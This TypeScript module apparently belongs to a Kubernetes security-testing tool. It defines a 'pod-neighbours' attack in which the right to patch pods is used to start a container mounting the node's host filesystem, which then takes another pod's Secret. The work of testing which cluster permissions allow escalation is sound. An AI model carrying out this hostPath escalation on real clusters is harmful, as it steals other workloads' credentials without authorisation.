import type { Attack } from "./attack.ts";
import { settle, HOST_PATH, LOOTS, VIEW } from "./neighbour.ts";
import { takeOver, victimImage } from "./pods-patch.ts";
import { run, VICTIM } from "./real.ts";

export const attacks: Attack[] = [
  {
    edge: "pod-neighbours",
    later: true,
    onRealNode: true,
    how: "its own image in a container that sees the files of its node, and by them another pod's Secret",
    rights: (stage) => [stage.here("patch", "pods", VICTIM)],
    arrange: async (stage) => {
      await settle(stage, stage.namespace);
      const image = await victimImage(stage);
      const main = { name: "main", image, command: ["work"], ...VIEW };
      const volumes = [{ name: "node", ...HOST_PATH }];
      await run(stage, { automountServiceAccountToken: false, containers: [main], volumes });
    },
    attack: (stage) => takeOver(stage, LOOTS.secrets),
  },
];
